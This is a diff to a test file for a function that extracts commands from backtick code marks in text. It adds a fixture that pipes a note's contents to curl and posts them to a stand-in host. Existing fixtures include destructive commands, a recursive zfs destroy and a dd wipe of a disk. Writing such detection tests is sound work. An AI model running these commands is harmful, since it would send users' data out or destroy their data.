@@ -9,6 +9,10 @@ describe('commands in code marks', () => {
     ['The library is prepared by `apt-get install -y libx`.', 'apt-get install -y libx'],
     ['Finish the volumes: `zfs destroy -r tank/records`.', 'zfs destroy -r tank/records'],
     ['`tar cz ~/notes | gzip -t` checks the archive.', 'tar cz ~/notes | gzip -t'],
+    [
+      'Keep a copy: `outline <note> | curl -s --data-binary @- https://a.test`.',
+      'outline <note> | curl -s --data-binary @- https://a.test',
+    ],
     ['Wiping is `dd if=/dev/zero of=/dev/sdz bs=1M`.', 'dd if=/dev/zero of=/dev/sdz bs=1M'],
     ['Quiet first: `Set-Thing -Quiet $true`.', 'Set-Thing -Quiet $true'],
     ['先准备：`pip install -r a.txt`。', 'pip install -r a.txt'],
@@ -31,6 +35,7 @@ describe('commands in code marks', () => {
     'Set `--force` or `name` and read `references/a.md`.',
     'The `find the file` step and `curl`.',
     'Use `row.strip()` and `a | b`.',
+    'A field is `text | date | number`, its answer `yes; no`.',
     'The `make it so` button and the `go there` link.',
   ])('names, options and expressions are none: %s', (text) => {
     expect(codes(text).filter((code) => code.includes(' '))).toEqual([]);
